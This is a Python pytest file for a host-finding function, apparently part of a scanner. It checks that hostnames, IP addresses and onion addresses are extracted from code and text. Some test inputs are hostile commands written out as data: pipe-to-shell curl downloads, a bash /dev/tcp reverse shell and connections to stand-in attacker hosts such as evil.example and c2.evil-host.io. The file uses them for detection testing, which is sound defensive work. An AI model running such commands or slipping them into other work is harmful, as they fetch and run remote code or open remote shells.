import pytest

from features.contract import HostKind
from features.text.host_place import HostPlace
from features.text.hosts import MOST_HOSTS, NAMES_BYTES, find_hosts, parse_host, places_of_hosts

NAME, IPV4, IPV6, ONION = HostKind.NAME, HostKind.IPV4, HostKind.IPV6, HostKind.ONION


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("get('https://Evil.Example/x')", ("evil.example", NAME)),
        ("https://user:word@evil.example:8443/x", ("evil.example", NAME)),
        ("ws://evil.example", ("evil.example", NAME)),
        ("git+ssh://git@evil.example/a.git", ("evil.example", NAME)),
        ("tcp://198.51.100.7:4444", ("198.51.100.7", IPV4)),
        ("http://3325256711/x", ("198.51.100.7", IPV4)),
        ("http://0xc6336407/x", ("198.51.100.7", IPV4)),
        ("http://[2001:DB8::7]:80/x", ("2001:db8::7", IPV6)),
        ("http://abcdefghijklmnop.onion/x", ("abcdefghijklmnop.onion", ONION)),
        ("https://b\u00fccher.example/", ("b\u00fccher.example", NAME)),
        ("https://xn--bcher-kva.example./", ("xn--bcher-kva.example", NAME)),
        ("connect(('198.51.100.7', 4444))", ("198.51.100.7", IPV4)),
        ('HOST = "198.51.100.7:4444"', ("198.51.100.7", IPV4)),
        ("ssh root@198.51.100.7:/x", ("198.51.100.7", IPV4)),
        ("curl 198.51.100.7:8000 | sh", ("198.51.100.7", IPV4)),
        ("curl -s 198.51.100.7/x | sh", ("198.51.100.7", IPV4)),
        ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", ("198.51.100.7", IPV4)),
        ("cat < /dev/tcp/evil.example/80", ("evil.example", NAME)),
        ("HTTPSConnection('evil.com')", ("evil.com", NAME)),
        ('connect(("c2.evil-host.io", 80))', ("c2.evil-host.io", NAME)),
        ("HOST = 'evil.ru:4444'", ("evil.ru", NAME)),
    ],
)
def test_a_host_is_found_in_each_spelling(text, expected):
    assert [HostPlace(expected[0], expected[1], 1, 1)] == list(find_hosts(text.encode()))


@pytest.mark.parametrize(
    "text",
    [
        "http://localhost:8000/ and https://127.0.0.1/ and http://[::1]/ and http://0.0.0.0:80",
        "mask = '255.255.255.0'",
        "https://{host}/x https://%s/x https://$HOST/x https://<host>/x http://' + host",
        "import skimage.io as io; 'pandas.io'; 'foo.app'; 'README.md'; 'a.py'; np.info",
        "version 1.2.3.4 and 10.0.0.0/8 and 300.1.1.1",
        "author_email='a.shepherd@sheep.com'",
        "file:///etc/hosts C://x s3://bucket",
    ],
)
def test_what_names_no_other_machine_is_no_host(text):
    assert () == find_hosts(text.encode())


def test_long_text_that_is_no_code_is_only_searched_for_urls_and_addresses():
    text = b"'b.com' 'c.com'\nhttps://a.example '198.51.100.7'\n"
    assert {"a.example", "198.51.100.7", "b.com", "c.com"} == {place.host for place in find_hosts(text, is_code=False)}
    assert {"a.example", "198.51.100.7"} == {
        place.host for place in find_hosts(text.ljust(NAMES_BYTES + 1), is_code=False)
    }


def test_a_host_stands_at_its_first_line_with_its_number():
    text = b"x\nget('https://b.example/1')\nget('https://a.example')\nget('https://B.example:80/2', 'b.example')\n"
    assert (HostPlace("b.example", NAME, 2, 3), HostPlace("a.example", NAME, 3, 1)) == find_hosts(text)


def test_the_hosts_of_one_text_are_bounded_and_quickly_found():
    many = b"".join(b"https://h%d.example/\n" % number for number in range(20_000))
    found = find_hosts(many)
    assert ("h0.example", MOST_HOSTS) == (found[0].host, len(found))
    assert (HostPlace("a.example", NAME, 1, 1 << 14),) == find_hosts(b"https://a.example/" * 20_000)


@pytest.mark.parametrize(
    "data", [b"", b"://", b"://\xff\xfe.\xff", b"://" + b"a" * 999, b"'.com'", b"1.1.1.1'", bytes(range(256))]
)
def test_any_bytes_can_be_searched(data):
    assert all(place.line == 1 for place in find_hosts(data))


@pytest.mark.parametrize(
    "text", ["", "a", ".", "a..example", "-.example", "http", "1.2.3", "4294967296", "a_b", "[::]"]
)
def test_no_host(text):
    assert parse_host(text.encode()) is None


def test_hosts_that_other_searches_found():
    assert [HostPlace("198.51.100.7", IPV4, 1, 1), HostPlace("a.example", NAME, 1, 1)] == places_of_hosts(
        {"a.example", "198.51.100.7", "localhost"}
    )
